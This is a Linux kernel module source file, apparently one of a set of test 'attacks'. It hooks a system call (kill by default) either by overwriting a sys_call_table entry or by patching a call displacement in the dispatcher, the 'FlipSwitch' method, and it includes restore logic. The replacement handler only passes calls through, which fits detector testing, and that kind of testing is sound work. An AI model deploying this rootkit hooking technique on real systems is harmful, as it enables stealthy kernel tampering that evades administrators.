// SPDX-License-Identifier: GPL-2.0-only
/*
 * Diverts a system call to this module: by the slot of a table (where=TABLE nr=N), or by
 * the call in the function that replaced the tables (where=FUNCTION); the way the latter
 * is done is known as FlipSwitch.
 */
#include <linux/ptrace.h>

#include "attack.h"
#include "text.h"

static char *where = "sys_call_table";
module_param(where, charp, 0);
static char *name = "__x64_sys_kill";
module_param(name, charp, 0);
static unsigned int nr = 62;
module_param(nr, uint, 0);

#define DISPATCHER_SIZE_MAX 32768

static asmlinkage long (*original)(const struct pt_regs *regs);

static asmlinkage long replacement(const struct pt_regs *regs)
{
	return original(regs);
}

static void *site;
static u8 old[sizeof(long)];
static size_t n_old;

static int replace(void *at, const void *bytes, size_t n)
{
	site = at;
	n_old = n;
	memcpy(old, at, n);
	return attack_write(at, bytes, n);
}

static int hook_table(unsigned long *table)
{
	unsigned long to = (unsigned long)replacement;

	original = (void *)table[nr];
	return replace(&table[nr], &to, sizeof(to));
}

/* A call, a jump or a conditional jump to the function: all end with the distance. */
static int hook_switch(u8 *code)
{
	s32 distance;
	int i;

	for (i = 1; i < DISPATCHER_SIZE_MAX; i++) {
		memcpy(&distance, code + i, sizeof(distance));
		if (code + i + sizeof(distance) + distance != (u8 *)original)
			continue;
		if (code[i - 1] != 0xe8 && code[i - 1] != 0xe9 &&
		    (code[i - 1] & 0xf0) != 0x80)
			continue;
		distance = (s32)((u8 *)replacement - (code + i + sizeof(distance)));
		return replace(code + i, &distance, sizeof(distance));
	}
	return -ENOENT;
}

static int change(void)
{
	unsigned long at = attack_symbol(where);

	if (!at)
		return -ENOENT;
	if (strstr(where, "table"))
		return hook_table((unsigned long *)at);
	original = (void *)attack_symbol(name);
	return original ? hook_switch((u8 *)at) : -ENOENT;
}

static void restore(void)
{
	(void)attack_write(site, old, n_old);
}

ATTACK(change, restore, "a system call's hook");
